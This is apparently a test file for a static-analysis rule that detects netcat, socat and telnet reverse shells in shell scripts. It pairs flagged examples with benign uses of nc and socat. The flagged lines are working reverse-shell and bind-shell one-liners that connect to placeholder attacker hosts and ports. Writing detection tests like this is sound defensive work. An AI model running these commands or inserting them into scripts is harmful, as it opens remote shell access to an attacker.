#!/bin/sh
LHOST="10.10.14.7"
LPORT=9001

# ruleid: bash-reverse-shell-netcat
nc -e /bin/sh "$LHOST" "$LPORT"
# ruleid: bash-reverse-shell-netcat
ncat 10.0.0.1 4242 -e /bin/bash
# ruleid: bash-reverse-shell-netcat
ncat --exec bash -l -p 31337 --keep-open
# ruleid: bash-reverse-shell-netcat
nc.traditional -c sh $LHOST $LPORT &
# ruleid: bash-reverse-shell-netcat
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc $LHOST $LPORT >/tmp/f

shell_over_fifo() {
  pipe=$(mktemp -u)
  # ruleid: bash-reverse-shell-netcat
  mkfifo "$pipe"
  /bin/bash -i < "$pipe" 2>&1 | nc "$1" "$2" > "$pipe"
}

# ruleid: bash-reverse-shell-netcat
socat TCP:$LHOST:$LPORT EXEC:'bash -li',pty,stderr,setsid,sigint,sane
# ruleid: bash-reverse-shell-netcat
socat tcp-listen:4444,reuseaddr,fork exec:/bin/sh
# ruleid: bash-reverse-shell-netcat
telnet $LHOST 4444 | /bin/bash | telnet $LHOST 4445

# ok: bash-reverse-shell-netcat
nc -z -w 2 db.internal 5432 && echo "database reachable"
# ok: bash-reverse-shell-netcat
nc -l 8080 < index.html
# ok: bash-reverse-shell-netcat
tar -czf - ./logs | nc backup.internal 9000
# ok: bash-reverse-shell-netcat
socat TCP-LISTEN:8080,fork,reuseaddr TCP:localhost:80
# ok: bash-reverse-shell-netcat
mkfifo /tmp/logpipe
tail -f /tmp/logpipe | grep --line-buffered ERROR >> errors.log
# ok: bash-reverse-shell-netcat
echo "ping" | nc -q 1 localhost 7000
